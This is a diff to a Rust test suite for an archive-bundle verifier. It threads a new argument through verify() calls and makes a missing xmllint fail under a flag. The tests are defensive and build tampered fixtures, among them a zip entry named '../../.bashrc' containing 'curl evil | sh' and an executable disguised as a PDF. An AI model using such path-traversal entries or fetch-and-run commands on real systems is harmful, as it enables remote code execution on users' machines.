@@ -232,7 +232,13 @@ fn metadata_follows_its_schema_and_names_each_files_digests() {
             "{}",
             String::from_utf8_lossy(&out.stderr)
         ),
-        Err(_) => eprintln!("xmllint 不在本机:元数据未按 schema 校验(CI 安装 libxml2-utils)"),
+        Err(_) => {
+            assert!(
+                std::env::var_os("PINGYI_REQUIRE_TOOLS").is_none(),
+                "PINGYI_REQUIRE_TOOLS is set, but there is no xmllint"
+            );
+            eprintln!("xmllint 不在本机:元数据未按 schema 校验(CI 安装 libxml2-utils)")
+        }
     }
 }
 
@@ -273,7 +279,7 @@ fn each_tampering_fails_the_property_it_breaks() {
     let site = TestSite::example();
     let bytes = bundle_of(&site, 2025);
     let intact = unpacked(&bytes);
-    let v = pingyi::archive::verify(intact.path()).unwrap();
+    let v = pingyi::archive::verify(intact.path(), None).unwrap();
     assert!(failed(&v).is_empty(), "{:?}", v.properties());
     assert_eq!(v.records, 15);
 
@@ -285,7 +291,7 @@ fn each_tampering_fails_the_property_it_breaks() {
     let kept: Vec<&str> = text.lines().filter(|l| !l.contains("-Y-0003")).collect();
     std::fs::write(&csv, kept.join("\n") + "\n").unwrap();
     rehash(dir.path(), "catalogue/catalogue.csv");
-    let v = pingyi::archive::verify(dir.path()).unwrap();
+    let v = pingyi::archive::verify(dir.path(), None).unwrap();
     assert_eq!(failed(&v), ["完整性"]);
     assert_eq!(
         v.incomplete,
@@ -295,7 +301,7 @@ fn each_tampering_fails_the_property_it_breaks() {
     // A 件's metadata removed with its manifest line.
     let dir = unpacked(&bytes);
     std::fs::remove_file(dir.path().join("metadata/J012-WS-2025-Y-0002.xml")).unwrap();
-    let v = pingyi::archive::verify(dir.path()).unwrap();
+    let v = pingyi::archive::verify(dir.path(), None).unwrap();
     assert_eq!(failed(&v), ["完整性"]);
     assert!(
         v.incomplete
@@ -310,7 +316,7 @@ fn each_tampering_fails_the_property_it_breaks() {
         .path()
         .join("sources/content/2025/notices/review-plan.md");
     std::fs::write(&src, "改过的源文件").unwrap();
-    let v = pingyi::archive::verify(dir.path()).unwrap();
+    let v = pingyi::archive::verify(dir.path(), None).unwrap();
     assert_eq!(failed(&v), ["真实性"]);
 
     // An attachment that is a program under a PDF's name, listed as if it belonged: 可用性
@@ -318,7 +324,7 @@ fn each_tampering_fails_the_property_it_breaks() {
     let dir = unpacked(&bytes);
     std::fs::write(dir.path().join("2025/setup.pdf"), b"MZ\x90\0program").unwrap();
     add_to_manifest(dir.path(), "2025/setup.pdf");
-    let v = pingyi::archive::verify(dir.path()).unwrap();
+    let v = pingyi::archive::verify(dir.path(), None).unwrap();
     assert_eq!(failed(&v), ["可用性", "安全性"]);
 }
 
@@ -354,7 +360,7 @@ fn names_that_lead_out_of_the_folder_fail_security() {
     out.write_all(b"curl evil | sh").unwrap();
     let path = site.root().join("evil.zip");
     std::fs::write(&path, out.finish().unwrap().into_inner()).unwrap();
-    let v = pingyi::archive::verify(&path).unwrap();
+    let v = pingyi::archive::verify(&path, None).unwrap();
     assert!(failed(&v).contains(&"安全性"), "{:?}", v.properties());
     assert!(
         v.unsafe_entries.iter().any(|(p, _)| p == "../../.bashrc"),
@@ -505,7 +511,7 @@ fn a_first_format_bundle_still_verifies_by_sha256() {
         f.as_object_mut().unwrap().remove("sm3");
     }
     std::fs::write(&m, serde_json::to_vec_pretty(&manifest).unwrap()).unwrap();
-    let v = pingyi::archive::verify(dir.path()).unwrap();
+    let v = pingyi::archive::verify(dir.path(), None).unwrap();
     assert_eq!(v.format, 1);
     assert!(v.is_intact(), "{:?}", v.properties());
     let report = v.properties();
@@ -519,6 +525,6 @@ fn a_first_format_bundle_still_verifies_by_sha256() {
         .path()
         .join("2025/speeches/mobilization-speech/index.html");
     std::fs::write(&page, "<!DOCTYPE html>改").unwrap();
-    let v = pingyi::archive::verify(dir.path()).unwrap();
+    let v = pingyi::archive::verify(dir.path(), None).unwrap();
     assert_eq!(v.altered, ["2025/speeches/mobilization-speech/index.html"]);
 }
